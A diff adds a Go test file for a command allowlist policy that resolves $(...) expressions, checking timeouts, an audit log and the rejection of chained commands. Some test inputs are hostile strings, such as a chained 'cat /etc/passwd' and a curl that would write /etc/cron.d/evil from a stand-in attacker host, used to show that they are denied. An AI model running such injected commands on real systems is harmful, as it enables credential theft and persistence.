@@ -0,0 +1,96 @@
+package commands
+
+import (
+	"github.com/sachamorard/swapper/utils"
+	"io/ioutil"
+	"os"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestCommandPolicyEval(t *testing.T) {
+	auditLog := "/tmp/swapper-commands-test.log"
+	_ = os.Remove(auditLog)
+	policy, err := NewCommandPolicy("echo *, echo * *, cat /etc/hostname", "1s", auditLog)
+	if err != nil || !reflect.DeepEqual(policy.Allowed, []string{"echo *", "echo * *", "cat /etc/hostname"}) {
+		t.Fail()
+	}
+
+	policy.Facts.AllowedEnv = []string{"SWAPPER_TEST_*"}
+	_ = os.Setenv("SWAPPER_TEST_PORT", "24224")
+	defer os.Unsetenv("SWAPPER_TEST_PORT")
+	str, err := policy.Eval("$(echo fluentd):$(env:SWAPPER_TEST_PORT) $(echo  a   b)")
+	if err != nil || str != "fluentd:24224 a b" {
+		t.Errorf("unexpected result: %s %v", str, err)
+	}
+
+	// an allowed pattern cannot chain other commands
+	for _, input := range []string{"$(echo $(echo nested))", "$(echo a; cat /etc/passwd)"} {
+		_, err = policy.Eval(input)
+		if err == nil || strings.Contains(err.Error(), "uses shell syntax") == false {
+			t.Error(input, err)
+		}
+	}
+
+	_, err = policy.Eval("$(env:SWAPPER_TEST_UNDEFINED)")
+	if err == nil || strings.Contains(err.Error(), "SWAPPER_TEST_UNDEFINED is not set") == false {
+		t.Fail()
+	}
+
+	_, err = policy.Eval("$(curl http://example.com)")
+	if err == nil || strings.Contains(err.Error(), "is not allowed on this node") == false {
+		t.Fail()
+	}
+
+	// * does not match more arguments than the pattern has
+	policy, _ = NewCommandPolicy("curl -s http://169.254.169.254/*", "1s", "")
+	if policy.allows("curl -s http://169.254.169.254/computeMetadata/v1/instance/zone") == false {
+		t.Fail()
+	}
+	for _, command := range []string{"curl -s http://169.254.169.254/x -o /etc/cron.d/evil http://attacker/", "curl -s -o /tmp/x http://169.254.169.254/x", "curl -s"} {
+		if policy.allows(command) {
+			t.Error(command)
+		}
+	}
+
+	policy, _ = NewCommandPolicy("sleep *", "100ms", auditLog)
+	_, err = policy.Eval("$(sleep 2)")
+	if err == nil || strings.Contains(err.Error(), "timed out") == false {
+		t.Fail()
+	}
+
+	audit, _ := ioutil.ReadFile(auditLog)
+	lines := strings.Split(strings.TrimSpace(string(audit)), "\n")
+	if len(lines) != 8 || strings.Contains(lines[0], `status=ok`) == false || strings.Contains(lines[0], `command="echo fluentd"`) == false ||
+		strings.Contains(lines[3], `status=denied`) == false || strings.Contains(lines[6], `status=denied`) == false || strings.Contains(lines[7], `status=timeout`) == false {
+		t.Errorf("unexpected audit log: %s", audit)
+	}
+
+	_, err = NewCommandPolicy("", "5 seconds", "")
+	if err == nil {
+		t.Fail()
+	}
+}
+
+func TestBuiltinResolvers(t *testing.T) {
+	policy := CommandPolicy{Timeout: time.Second, Facts: utils.Facts{AllowedFiles: []string{"/tmp/swapper-test-file"}}}
+	ip, err := policy.Eval("$(host_ip)")
+	if err != nil || ip == "" {
+		t.Fail()
+	}
+
+	_ = ioutil.WriteFile("/tmp/swapper-test-file", []byte("content\n"), 0644)
+	str, err := policy.Eval("$(file:/tmp/swapper-test-file)")
+	if err != nil || str != "content" {
+		t.Fail()
+	}
+}
+
+func TestFindCommands(t *testing.T) {
+	expressions := findCommands("a $(hostname):$(echo $(date)) b $(unclosed")
+	if !reflect.DeepEqual(expressions, []string{"$(hostname)", "$(echo $(date))"}) {
+		t.Error(expressions)
+	}
+}